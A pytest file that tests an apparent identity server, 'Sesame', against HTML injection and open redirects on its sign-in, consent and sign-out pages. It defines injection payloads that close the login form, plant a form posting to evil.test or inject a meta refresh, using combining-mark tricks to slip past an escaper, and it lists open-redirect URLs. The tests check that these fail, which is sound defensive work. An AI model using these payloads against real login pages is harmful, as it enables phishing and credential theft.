"""Pages, escaping and redirects (issue 13, points 1, 4 and 10): what a link can make Sesame's own
pages show or do, in Chromium and over plain HTTP against the real server."""

import json
import time
from html.parser import HTMLParser
from urllib.parse import parse_qs, quote, urlencode, urljoin, urlparse

import pytest
import requests
from selenium.webdriver.common.by import By

from conftest import click_and_wait, sign_in
from oidc_helpers import Person

REDIRECT = "http://127.0.0.1:9/callback"  # never contacted: the flows stop at the redirect
EVIL = "https://evil.test/"

# A `"` or `>` followed by a combining mark (U+0301) is one grapheme cluster; so is U+0600 before `<`.
# A per-Character escaper let all of them through raw.
CLOSE_THE_FORM = "\"\u0301></form><form id=evil action=" + EVIL + " method=post><input name=username value=\""
META_REFRESH = ">\u0301<meta http-equiv=refresh content=\"0;url=" + EVIL + "\"><x x=\""
PREPEND = "\u0600<form id=evil action=" + EVIL + "><meta http-equiv=refresh content=\"0;url=" + EVIL + "\">"


class Tags(HTMLParser):
    """The start tags of a page, with their attributes, as a browser's parser sees them."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def all(self, tag):
        return [attrs for name, attrs in self.tags if name == tag]

    def hidden(self):
        return {a["name"]: a.get("value", "") for a in self.all("input") if a.get("type") == "hidden"}


def assert_no_injection(html, base, form_id, action):
    tags = Tags(html)
    forms = tags.all("form")
    assert [f.get("id") for f in forms] == [form_id], forms
    assert urljoin(base + "/", forms[0]["action"]) == action
    assert tags.all("meta") == [{"charset": "utf-8"}, {"name": "viewport", "content": "width=device-width, initial-scale=1"}]
    assert not any("formaction" in attrs or "onfocus" in attrs for _, attrs in tags.tags)
    return tags


@pytest.fixture(scope="module")
def site(sesame):
    sesame.add_user("paige", "paige-pass", "--email", "paige@example.com")
    result = sesame.cli("client", "add", "pages-web", "--json", "--redirect-uri", REDIRECT, "--post-logout-redirect-uri", "http://127.0.0.1:9/bye")
    assert result.returncode == 0, result.stderr
    return sesame, json.loads(result.stdout)


def authorize_url(sesame, client, **extra):
    query = {"client_id": client["client_id"], "redirect_uri": REDIRECT, "response_type": "code", "scope": "openid profile",
             "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuwGMZd9c3A", "code_challenge_method": "S256", **extra}
    return sesame.base + "/authorize?" + urlencode(query, quote_via=quote)


def test_a_malicious_login_hint_cannot_take_over_the_sign_in_form(site, browser):
    sesame, _ = site
    browser.delete_all_cookies()
    for hint in (CLOSE_THE_FORM, META_REFRESH):
        browser.get(sesame.base + "/login?" + urlencode({"login_hint": hint}, quote_via=quote))
        time.sleep(0.5)  # a refresh would have fired by now
        assert browser.current_url.startswith(sesame.base + "/login")
        forms = browser.find_elements(By.TAG_NAME, "form")
        assert [f.get_attribute("id") for f in forms] == ["login-form"]
        assert forms[0].get_attribute("action") == sesame.base + "/login"
        assert browser.find_elements(By.CSS_SELECTOR, "meta[http-equiv]") == []
        # The hint is text in the username field, whole, and the password goes to Sesame.
        assert browser.find_element(By.NAME, "username").get_attribute("value") == hint
        for element in browser.find_elements(By.CSS_SELECTOR, "input, button"):
            assert element.get_dom_attribute("formaction") is None
            assert element.get_dom_attribute("form") is None


def test_a_login_hint_with_control_or_format_characters_is_dropped(site):
    sesame, _ = site
    for hint in (PREPEND, "a\u202eb", "a\tb", "x" * 300):
        page = requests.get(sesame.base + "/login", params={"login_hint": hint})
        assert page.status_code == 200
        tags = assert_no_injection(page.text, sesame.base, "login-form", sesame.base + "/login")
        assert [a.get("value") for a in tags.all("input") if a.get("name") == "username"] == [""]


def test_a_return_to_cannot_inject_a_refresh(site, browser):
    sesame, _ = site
    browser.delete_all_cookies()
    browser.get(sesame.base + "/login?" + urlencode({"return_to": "/x" + META_REFRESH}, quote_via=quote))
    time.sleep(0.5)
    assert browser.current_url.startswith(sesame.base + "/login")
    assert browser.find_elements(By.CSS_SELECTOR, "meta[http-equiv]") == []
    assert browser.find_element(By.NAME, "return_to").get_attribute("value") == "/account"


def test_a_signed_in_person_following_a_return_to_link_stays_on_sesame(site, browser):
    sesame, _ = site
    browser.delete_all_cookies()
    browser.get(sesame.base + "/login")
    browser.find_element(By.NAME, "username").send_keys("paige")
    browser.find_element(By.NAME, "password").send_keys("paige-pass")
    click_and_wait(browser, "#login-form button[type=submit]")
    assert browser.current_url == sesame.base + "/account"
    # `//` + U+034F: Chromium drops the mark and would go to example.test.
    for link in ("/login?return_to=//%CD%8Fexample.test", "/login?return_to=/%CD%8F/example.test", "/login?return_to=/%09/example.test",
                 "/login?return_to=/%5Cexample.test"):
        browser.get(sesame.base + link)
        assert browser.current_url == sesame.base + "/account", link


def test_the_consent_page_shows_state_escaped(site):
    sesame, client = site
    session, signed_in = sign_in(sesame.base, "paige", "paige-pass")
    assert signed_in.status_code == 303
    for state in (CLOSE_THE_FORM, META_REFRESH, PREPEND):
        page = session.get(authorize_url(sesame, client, state=state, prompt="consent"), allow_redirects=False)
        assert page.status_code == 200 and 'id="consent-form"' in page.text
        tags = assert_no_injection(page.text, sesame.base, "consent-form", sesame.base + "/authorize/consent")
        assert tags.hidden()["state"] == state


def test_the_form_post_page_shows_state_escaped(site):
    sesame, client = site
    person = Person(sesame.base, "paige", "paige-pass")
    for state in (CLOSE_THE_FORM, META_REFRESH, PREPEND):
        page = person.authorize(authorize_url(sesame, client, state=state, response_mode="form_post"))
        assert not isinstance(page, str) and page.status_code == 200
        tags = assert_no_injection(page.text, sesame.base, "form-post", REDIRECT)
        assert tags.hidden()["state"] == state and tags.hidden()["code"]
        assert "form-action http://127.0.0.1:9;" in page.headers["Content-Security-Policy"]


def test_the_end_session_page_shows_parameters_escaped(site):
    sesame, client = site
    person = Person(sesame.base, "paige", "paige-pass")
    landed = person.authorize(authorize_url(sesame, client, state="s"))
    assert isinstance(landed, str) and landed.startswith(REDIRECT)
    for state in (CLOSE_THE_FORM, META_REFRESH, PREPEND):
        page = person.http.get(sesame.base + "/end-session", params={
            "client_id": client["client_id"], "post_logout_redirect_uri": "http://127.0.0.1:9/bye", "state": state})
        assert page.status_code == 200 and 'id="end-session-form"' in page.text
        tags = assert_no_injection(page.text, sesame.base, "end-session-form", sesame.base + "/end-session")
        assert tags.hidden()["state"] == state


def test_a_long_state_survives_the_sign_in(site):
    """Some client frameworks make a `state` of a few kilobytes; it used to be dropped past 2048
    characters of `return_to`, and the person landed on /account instead of the app."""
    sesame, client = site
    state = "".join("abcdefghijklmnopqrstuvwxyz0123456789-_.~+/="[i % 43] for i in range(4000))
    person = Person(sesame.base, "paige", "paige-pass")
    landed = person.authorize(authorize_url(sesame, client, state=state, prompt="login"))
    assert isinstance(landed, str) and landed.startswith(REDIRECT + "?"), landed
    query = parse_qs(urlparse(landed).query)
    assert query["state"] == [state] and query["code"]


def test_pages_are_not_cached_and_http_issuers_send_no_hsts(site):
    sesame, _ = site
    for path in ("/login", "/login?return_to=/account", "/missing"):
        response = requests.get(sesame.base + path, allow_redirects=False)
        assert response.headers["Cache-Control"] == "no-store"
        assert "Strict-Transport-Security" not in response.headers


def test_the_sign_in_page_posts_only_to_sesame_and_on_to_the_checked_app(site):
    sesame, client = site
    real = sesame.base + "/login?" + urlencode({"return_to": urlparse(authorize_url(sesame, client, state="s"))._replace(scheme="", netloc="").geturl()})
    forged = sesame.base + "/login?" + urlencode({"return_to": "/authorize?" + urlencode({
        "client_id": client["client_id"], "redirect_uri": EVIL, "response_type": "code", "scope": "openid"})})
    for url, policy in ((sesame.base + "/login", "form-action 'self';"), (real, "form-action 'self' http://127.0.0.1:9;"),
                        (forged, "form-action 'self';")):
        assert policy in requests.get(url).headers["Content-Security-Policy"], url


def test_consent_and_sign_out_pages_post_on_only_to_the_app(site):
    sesame, client = site
    session, _ = sign_in(sesame.base, "paige", "paige-pass")
    consent = session.get(authorize_url(sesame, client, state="s", prompt="consent"), allow_redirects=False)
    assert 'id="consent-form"' in consent.text
    assert "form-action 'self' http://127.0.0.1:9;" in consent.headers["Content-Security-Policy"]
    confirm = session.get(sesame.base + "/end-session", params={"client_id": client["client_id"], "post_logout_redirect_uri": "http://127.0.0.1:9/bye"})
    assert 'id="end-session-form"' in confirm.text
    assert "form-action 'self' http://127.0.0.1:9;" in confirm.headers["Content-Security-Policy"]


def test_chromium_signs_in_for_an_app_under_form_action(sesame, browser):
    """The sign-in page's `form-action` lets the redirects after the password through to the app
    (Chromium checks them too), with a long state."""
    import http.server
    import threading

    class Callback(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>app</title><p id=app>back at the app</p>")

        def log_message(self, *args):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Callback)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        redirect = f"http://127.0.0.1:{server.server_port}/callback"
        sesame.add_user("quinn", "quinn-pass")
        result = sesame.cli("client", "add", "pages-live", "--json", "--first-party", "--redirect-uri", redirect)
        assert result.returncode == 0, result.stderr
        client = json.loads(result.stdout)
        state = "st-" + "x" * 3000
        browser.delete_all_cookies()
        browser.get(sesame.base + "/authorize?" + urlencode({
            "client_id": client["client_id"], "redirect_uri": redirect, "response_type": "code", "scope": "openid", "state": state,
            "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuwGMZd9c3A", "code_challenge_method": "S256"}))
        assert "form-action 'self' " + redirect.rsplit("/", 1)[0] in requests.get(browser.current_url).headers["Content-Security-Policy"]
        browser.find_element(By.NAME, "username").send_keys("quinn")
        browser.find_element(By.NAME, "password").send_keys("quinn-pass")
        click_and_wait(browser, "#login-form button[type=submit]")
        assert browser.find_element(By.ID, "app").text == "back at the app"
        query = parse_qs(urlparse(browser.current_url).query)
        assert browser.current_url.startswith(redirect + "?") and query["state"] == [state] and query["code"]
    finally:
        server.shutdown()


def test_a_cas_sign_in_page_posts_on_only_to_the_registered_service(site):
    sesame, _ = site
    service = "http://127.0.0.1:9/pages-cas/"
    assert sesame.cli("cas-service", "add", "pages-cas", "--pattern", service).returncode == 0
    for target, policy in ((service + "home", "form-action 'self' http://127.0.0.1:9;"),
                           ("http://127.0.0.1:9.evil.test/pages-cas/", "form-action 'self';")):
        page = requests.get(sesame.base + "/login", params={"return_to": "/cas/login?" + urlencode({"service": target})})
        assert policy in page.headers["Content-Security-Policy"], target


def test_the_second_step_posts_only_to_sesame_and_on_to_the_checked_app(site):
    sesame, client = site
    sesame.add_user("rhea", "rhea-pass")
    assert sesame.cli("user", "require-2fa", "rhea").returncode == 0
    back = urlparse(authorize_url(sesame, client, state="s"))._replace(scheme="", netloc="").geturl()
    for return_to, policy in ((back, "form-action 'self' http://127.0.0.1:9;"), ("/account", "form-action 'self';")):
        session, signed_in = sign_in(sesame.base, "rhea", "rhea-pass", return_to=return_to)
        assert signed_in.status_code == 303 and signed_in.headers["Location"].startswith("/login/two-factor")
        page = session.get(sesame.base + signed_in.headers["Location"], allow_redirects=False)
        assert 'id="enrol-form"' in page.text
        assert policy in page.headers["Content-Security-Policy"]
